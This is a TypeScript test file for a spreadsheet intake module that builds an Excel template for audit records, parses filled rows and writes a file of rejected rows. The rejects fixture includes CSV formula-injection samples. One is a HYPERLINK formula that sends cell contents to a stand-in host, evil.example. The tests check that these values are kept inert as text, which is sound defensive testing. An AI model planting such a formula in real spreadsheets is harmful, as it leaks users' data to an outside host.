import { readFileSync, writeFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ColumnSpec } from '@jiandu/domain';
import {
  inspectSheet, parseSheet, writeRejects, writeTemplate, type ParsedRow, type RejectRow, type SheetInspection,
} from '../../src/intake/sheet/index.ts';
import { idFor, SPECS, tempDir } from './sheet-fixtures.ts';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

async function parseAll(path: string, specs: readonly ColumnSpec[] = SPECS) {
  const look = await inspectSheet(path, specs);
  const parse = await parseSheet(path, specs, look.mapping);
  const rows: ParsedRow[] = [];
  for await (const r of parse) rows.push(r);
  return { look, rows, summary: parse.summary };
}

/** The text of one part of an .xlsx (central directory walk; the files are ours). */
function zipPart(path: string, name: string): string {
  const b = readFileSync(path);
  const eocd = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let p = b.readUInt32LE(eocd + 16);
  for (let i = 0; i < b.readUInt16LE(eocd + 10); i++) {
    const n = b.readUInt16LE(p + 28);
    const entryName = b.toString('utf8', p + 46, p + 46 + n);
    if (entryName === name) {
      const local = b.readUInt32LE(p + 42);
      const start = local + 30 + b.readUInt16LE(local + 26) + b.readUInt16LE(local + 28);
      const data = b.subarray(start, start + b.readUInt32LE(p + 20));
      return (b.readUInt16LE(p + 10) === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    p += 46 + n + b.readUInt16LE(p + 30) + b.readUInt16LE(p + 32);
  }
  throw new Error(`no ${name}`);
}

describe('import template', () => {
  const path = tmp.file('template.xlsx');
  const LONG: ColumnSpec = { key: 'dept', label: '来源部门', type: 'enum', options: Array.from({ length: 60 }, (_, i) => `青川市第${i + 1}部门`), example: '青川市第1部门' };
  const specs = [...SPECS, LONG];
  let wb: ExcelJS.Workbook;
  beforeAll(async () => {
    writeFileSync(path, await writeTemplate(specs, { title: '经济责任审计导入模板' }));
    wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path);
  });

  it('has a bold frozen header, red required headers with notes, a grey example row, and text format on ID columns', () => {
    const ws = wb.getWorksheet('导入数据')!;
    expect(ws.getRow(1).values).toEqual([undefined, ...specs.map((s) => s.label)]);
    expect(ws.getCell('A1').font.bold).toBe(true);
    expect(ws.getCell('A1').font.color?.argb).toBe('FFC00000');
    expect(ws.getCell('C1').font.color?.argb).toBe('FF000000');
    expect(String(ws.getCell('B1').note)).toContain('18位公民身份号码');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getCell('A2').value).toBe('示例：张三');
    expect(ws.getCell('B2').value).toBe('11010519491231002X');
    expect((ws.getCell('B2').fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFF2F2F2');
    expect(ws.getColumn(2).numFmt).toBe('@');
    expect(ws.getColumn(5).numFmt).toBe('yyyy-mm-dd');
    expect(ws.getColumn(2).width).toBeGreaterThanOrEqual(22);
  });

  it('has dropdowns: inline for short lists, from a hidden 选项 sheet for long ones', () => {
    const xml = zipPart(path, 'xl/worksheets/sheet1.xml');
    expect(xml).toContain('sqref="D2:D5001"');
    expect(xml).toContain('<formula1>&quot;任中,离任&quot;</formula1>');
    expect(xml).toContain('<formula1>&quot;是,否&quot;</formula1>');
    expect(xml).toContain('<formula1>&apos;选项&apos;!$A$2:$A$61</formula1>');
    const options = wb.getWorksheet('选项')!;
    expect(options.state).toBe('hidden');
    expect(options.getCell('A1').value).toBe('来源部门');
    expect(options.getCell('A61').value).toBe('青川市第60部门');
  });

  it('has a 填写说明 sheet with one line per column: required or not, format, allowed values', () => {
    const guide = wb.getWorksheet('填写说明')!;
    const lines = guide.getSheetValues().slice(7).map((r) => (r as unknown[]).slice(1, 4).join('|'));
    expect(lines).toHaveLength(specs.length);
    expect(lines[0]).toMatch(/^姓名\|必填\|姓名，中文姓名中间不加空格/u);
    expect(lines[3]).toBe('审计类型|必填|从下拉列表中选择；可选值：任中、离任');
    expect(lines[8]).toBe('发现问题金额|选填|数字，可带小数；单位：万元');
    expect(guide.getCell('A1').value).toBe('经济责任审计导入模板');
  });

  it('reads back: the example row is skipped, and a filled template round-trips', async () => {
    const empty = await parseAll(path, specs);
    expect(empty.look.missing).toEqual([]);
    expect(empty.look.mapping.headerRow).toBe(1);
    expect(empty.rows).toEqual([]);
    expect(empty.summary.skipped).toEqual([{ row: 2, reason: 'example', note: '第2行是模板的示例行，已跳过' }]);

    const ws = wb.getWorksheet('导入数据')!;
    ws.getRow(3).values = ['李四', idFor(1), '青川市财政局', '任中', new Date(Date.UTC(2025, 5, 30)), '2025.10', 2025, 2, 3.5, '否', '违反工作纪律', '=1+1', '青川市第7部门'];
    ws.getRow(4).values = ['王五', idFor(2).toLowerCase(), null, '离任', '2025/7/1', '2025年7月', null, null, null, '是', null, null, '青川市第60部门'];
    await wb.xlsx.writeFile(tmp.file('filled.xlsx'));
    const filled = await parseAll(tmp.file('filled.xlsx'), specs);
    expect(filled.summary.skipped.map((s) => s.row)).toEqual([2]);
    expect(filled.rows.map((r) => [r.row, r.errors])).toEqual([[3, []], [4, []]]);
    expect(filled.rows[0]!.values).toMatchObject({ name: '李四', idNumber: idFor(1), auditedOn: '2025-06-30', reportMonth: '2025-10', findingsAmount: 3.5, remark: '=1+1', dept: '青川市第7部门' });
    expect(filled.rows[1]!.values).toMatchObject({ idNumber: idFor(2), auditedOn: '2025-07-01', reportMonth: '2025-07', rectified: true });
  });

  it('an example row overwritten with real data is imported; one left as is (without the mark) is still skipped', async () => {
    const w = new ExcelJS.Workbook();
    await w.xlsx.readFile(path);
    const ws = w.getWorksheet('导入数据')!;
    ws.getCell('A2').value = '张三';
    await w.xlsx.writeFile(tmp.file('unmarked.xlsx'));
    expect((await parseAll(tmp.file('unmarked.xlsx'), specs)).summary.skipped.map((s) => s.reason)).toEqual(['example']);
    ws.getRow(2).values = ['赵六', idFor(3), null, '任中', '2025-01-02'];
    await w.xlsx.writeFile(tmp.file('overwritten.xlsx'));
    const r = await parseAll(tmp.file('overwritten.xlsx'), specs);
    expect(r.rows.map((x) => [x.row, x.values.name, x.errors])).toEqual([[2, '赵六', []]]);
  });
});

describe('rejects file', () => {
  let look: SheetInspection;
  const out = tmp.file('rejects.xlsx');
  const rows: RejectRow[] = [];
  beforeAll(async () => {
    const src = tmp.file('bad.csv');
    writeFileSync(src, [
      '姓名,身份证号,审计类型,审计日期,备注',
      `=HYPERLINK("http://evil.example/?"&A1;"点我"),${idFor(1)},离任,2025-03-15,+1 加号开头`,
      `-2+3,110105194912310000,离职,2025.3,"@SUM(A1)"`,
      `张三,${idFor(2)},未知,2025-03-15,\t制表符开头`,
    ].join('\n'));
    const parsed = await parseAll(src);
    look = parsed.look;
    rows.push(...parsed.rows.filter((r) => r.errors.length > 0));
    await writeRejects(out, look.mapping, rows);
  });

  it('keeps the header and values, adds 原行号 and 问题, fills the offending cells red with a note', async () => {
    expect(rows.map((r) => r.row)).toEqual([2, 3, 4]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.worksheets[0]!;
    expect(ws.name).toBe('未导入的行');
    expect(ws.getRow(1).values).toEqual([undefined, '姓名', '身份证号', '审计类型', '审计日期', '备注', '原行号', '问题']);
    expect(ws.getCell('F3').value).toBe(3);
    expect(ws.getCell('B3').value).toBe('110105194912310000');
    const b3 = ws.getCell('B3');
    expect((b3.fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFFC7CE');
    expect(String(b3.note)).toContain('校验位');
    expect((ws.getCell('A3').fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb).toBe('FFFFC7CE');
    expect(String(ws.getCell('G3').value)).toBe([
      'A列“姓名”：姓名“-2+3”中含有数字，请检查是否填错了列',
      'B列“身份证号”：身份证号校验位不正确（可能有数字录错或丢失）。号码以000结尾，可能是在Excel中被保存为数字后丢失了末尾数字，请将该列设为文本格式后重新填写',
      'C列“审计类型”：“离职”不是有效的选项，应为：任中、离任',
      'D列“审计日期”：日期“2025.3”只有年月，缺少日（本列需要具体日期，如2025-03-01）',
    ].join('\n'));
    expect((ws.getCell('E3').fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb).toBeUndefined();
  });

  it('writes every value that looks like a formula as text (FILE-04): no <f> element, a string cell, format @', async () => {
    const xml = zipPart(out, 'xl/worksheets/sheet1.xml');
    expect(xml).not.toContain('<f>');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.worksheets[0]!;
    for (const addr of ['A2', 'E2', 'A3', 'E3', 'E4']) {
      const cell = ws.getCell(addr);
      expect(cell.type, addr).toBe(ExcelJS.ValueType.String);
      expect(cell.numFmt, addr).toBe('@');
    }
    expect(ws.getCell('A2').value).toBe('=HYPERLINK("http://evil.example/?"&A1;"点我")');
    expect(ws.getCell('E3').value).toBe('@SUM(A1)');
    expect(ws.getCell('E4').value).toBe('\t制表符开头');
  });

  it('re-importing the rejects file after fixing it maps the same columns and ignores the extra two', async () => {
    const again = await inspectSheet(out, SPECS);
    expect(again.mapping.columns.map((c) => c.key)).toEqual(['name', 'idNumber', 'auditType', 'auditedOn', 'remark', null, null]);
    expect(again.unmapped).toEqual(['原行号', '问题']);
  });
});
